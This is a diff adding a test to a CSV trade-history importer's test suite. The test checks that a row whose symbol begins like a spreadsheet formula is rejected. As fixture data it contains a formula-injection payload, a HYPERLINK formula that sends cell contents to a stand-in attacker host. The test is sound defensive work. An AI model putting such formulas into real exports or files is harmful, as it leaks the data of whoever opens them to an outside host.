@@ -122,3 +122,16 @@ async def test_an_export_row_whose_market_is_not_a_printable_market_name_is_bad(
     report = await _report(path, tmp_path / "d")
     assert (report.imported, report.bad_rows) == (False, 1)
     assert "is not a printable market name" in report.bad[0].reason
+
+
+async def test_an_export_row_whose_symbol_starts_like_a_formula_is_bad(tmp_path: Path) -> None:
+    # Read back as written, then exported again, it ran in the spreadsheet that opened it.
+    path = tmp_path / "export.csv"
+    with path.open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(history_io.REQUIRED_COLUMNS)
+        formula = '=HYPERLINK("https://evil.example/?"&A2,"BTCUSDT")'
+        writer.writerow(["x:1", 1, "binance_usdm", formula, "BTC-PERP", "long", 1, 1, 1, T, T, 1])
+    report = await _report(path, tmp_path / "d")
+    assert (report.imported, report.bad_rows) == (False, 1)
+    assert "a spreadsheet opening an export would run it as a formula" in report.bad[0].reason
